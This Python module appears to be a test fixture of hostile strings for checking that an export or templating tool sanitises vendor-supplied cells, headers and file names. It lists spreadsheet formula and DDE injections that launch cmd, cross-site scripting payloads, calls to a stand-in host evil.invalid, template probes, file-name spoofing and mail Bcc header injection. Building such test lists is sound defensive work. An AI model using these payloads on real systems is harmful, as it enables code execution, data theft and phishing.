"""What a hostile vendor may write into any cell, header, sheet name or file name."""

from __future__ import annotations

_EVIL = "https://evil.invalid/x"

PAYLOADS = (
    # formulas, as every spreadsheet program begins one
    "=1+1",
    f'=HYPERLINK("{_EVIL}","点我")',
    f'=WEBSERVICE("{_EVIL}")',
    f'=IMAGE("{_EVIL}")',
    "=cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"a")',
    "+1+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    "＋1",
    "{=1+1}",
    "#REF!",
    "'=1+1",
    '"=1+1',
    # script and markup
    "<script>alert(1)</script>",
    f"<script src={_EVIL}></script>",
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<img src=x onerror=alert(1)>",
    f'<img src="{_EVIL}">',
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "<details open ontoggle=alert(1)>",
    f"<iframe src='{_EVIL}'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    f"<object data={_EVIL}>",
    f"<meta http-equiv=refresh content='0;url={_EVIL}'>",
    f"<base href='{_EVIL}'>",
    f"<form action={_EVIL}><button autofocus>x",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # style
    f"</style><style>body{{background:url({_EVIL})}}</style>",
    f"<link rel=stylesheet href={_EVIL}>",
    f"x;background:url({_EVIL})",
    # the templates' own syntax, and JSON's and CSV's
    "{{ 7*7 }}",
    "{% raw %}",
    "{count}",
    "${alert(1)}",
    "]]></t><f>1+1</f>",
    "\\u003cscript>alert(1)</script>",
    '",=1+1,"',
    "a,b;c\nd",
    # what nobody sees, and headers of a mail
    "ab\u202egnp.exe",
    "a\u200bb\u2066c\ufeffd",
    "a\x01b\x1b[31mc\x7fd\x9be",
    "_x0041_x003C_",
    "a\r\nBcc: all@evil.invalid\r\n\r\n<b>x",
    "=?utf-8?q?=0D=0ABcc=3A_x?=",
    "长" * 3000,
)
